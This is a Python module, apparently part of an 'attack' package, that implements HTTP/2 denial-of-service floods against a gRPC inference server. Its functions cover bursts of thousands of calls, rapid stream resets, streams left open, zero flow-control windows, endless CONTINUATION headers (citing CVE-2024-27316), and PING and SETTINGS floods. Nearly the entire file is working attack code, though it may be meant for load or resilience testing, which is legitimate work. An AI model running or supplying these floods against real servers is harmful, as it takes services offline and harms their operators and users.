"""Floods of the inference server over HTTP/2, one attacker's each. Each yields between its bursts."""

from collections.abc import Iterator
from itertools import count

from attack import http2
from attack.http2 import TOP_K, WATCH_MODELS, call, message, speaking
from attack.tiers import Address


def calls_at_once(address: Address) -> Iterator[None]:
    """Three thousand gRPC calls in one burst, all of them new questions."""
    for number in count():
        with speaking(address) as peer:
            for at in range(0, 3000, 100):
                for inner in range(100):
                    stream = peer.stream()
                    text = f"{number} and {at + inner}".encode()
                    peer.send(call(stream), message(stream, b"\x12" + bytes([len(text)]) + text))
                peer.hear()
            yield
            peer.hear(1.0)
        yield


def rapid_reset(address: Address) -> Iterator[None]:
    """Calls that are taken back at once."""
    while True:
        with speaking(address) as peer:
            while not peer.closed and peer.uses < 20_000:
                for _ in range(50):
                    stream = peer.stream()
                    peer.send(call(stream), message(stream, b"\x12\x04Once"), http2.reset(stream))
                peer.hear()
                yield
        yield


def open_streams(address: Address) -> Iterator[None]:
    """Calls that never say what they want."""
    with speaking(address) as peer:
        while not peer.closed:
            if peer.uses < 20_000:
                peer.send(*(call(peer.stream(), WATCH_MODELS if at % 2 else TOP_K) for at in range(50)))
            peer.hear()
            yield
    yield from open_streams(address)


def closed_windows(address: Address) -> Iterator[None]:
    """Answers that no window lets through."""
    with speaking(address, [(http2.INITIAL_WINDOW_SIZE, 0)]) as peer:
        while not peer.closed:
            if peer.uses < 5_000:
                for _ in range(10):
                    stream = peer.stream()
                    peer.send(call(stream), message(stream, b"\x12\x04Once\x18\xe8\x07\x58\x01"))
            peer.hear()
            yield
    yield from closed_windows(address)


def frames_without_end(address: Address, first: bytes, piece: bytes) -> Iterator[None]:
    """The same frames again and again on one connection, whatever comes back."""
    while True:
        with speaking(address) as peer:
            sent = peer.send(first)
            while sent and not peer.closed:
                sent = peer.send(piece)
                peer.hear()
                yield
        yield


def continuations(address: Address) -> Iterator[None]:
    """Headers that go on and never end (CVE-2024-27316 and others)."""
    block = http2.header_block([("x", "y" * 100)] * 10)
    pieces = http2.frame(http2.CONTINUATION, 0, 1, block) * 50
    return frames_without_end(address, call(1, flags=0), pieces)


def empty_continuations(address: Address) -> Iterator[None]:
    """The same, and nothing in it to count."""
    return frames_without_end(address, call(1, flags=0), http2.frame(http2.CONTINUATION, 0, 1) * 500)


def pings(address: Address) -> Iterator[None]:
    """Pings, each to be answered."""
    return frames_without_end(address, b"", http2.frame(http2.PING, 0, 0, bytes(8)) * 200)


def settings(address: Address) -> Iterator[None]:
    """Settings, each to be answered."""
    return frames_without_end(address, b"", http2.frame(http2.SETTINGS, 0, 0) * 200)
